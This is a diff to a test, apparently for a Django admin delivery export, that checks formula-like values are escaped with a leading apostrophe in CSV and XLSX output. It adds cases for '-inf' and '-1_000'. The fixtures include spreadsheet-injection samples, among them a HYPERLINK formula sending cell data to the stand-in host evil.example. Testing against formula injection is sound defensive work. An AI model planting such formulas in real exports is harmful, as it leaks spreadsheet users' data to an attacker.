@@ -393,13 +393,16 @@ def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
     DeliveryFactory(seller_order_id="ORD-F2", store_name="+1-555 Corner Shop")
     DeliveryFactory(seller_order_id="-ORD-F3", store_name="@SUM(A1:A9)")
     DeliveryFactory(seller_order_id="-3.50", store_name="-12")  # numbers as CSV writes them: values, left as they are
+    # what Python's float() takes but a spreadsheet does not read as a number (it was left bare)
+    DeliveryFactory(seller_order_id="ORD-F4", store_name="-inf")
+    DeliveryFactory(seller_order_id="ORD-F5", store_name="-1_000")
     form = {"resource": "0", "deliveryexport_seller_order_id": "on", "deliveryexport_store_name": "on"}
 
     csv = client.post("/admin/dispatch/delivery/export/", {**form, "format": "0"}).content.decode()
     sheet = load_workbook(BytesIO(client.post("/admin/dispatch/delivery/export/", {**form, "format": "1"}).content)).active
 
     assert "'=HYPERLINK" in csv and "'+1-555 Corner Shop" in csv and "'-ORD-F3,'@SUM(A1:A9)" in csv
-    assert "\n-3.50,-12" in csv
+    assert "\n-3.50,-12" in csv and "ORD-F4,'-inf" in csv and "ORD-F5,'-1_000" in csv
     cells = {cell for row in sheet.iter_rows(min_row=2, values_only=True) for cell in row}
     assert {'\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1-555 Corner Shop", "'@SUM(A1:A9)", "'-ORD-F3"} <= cells
     assert "ORD-F1" in cells  # (plain text untouched)
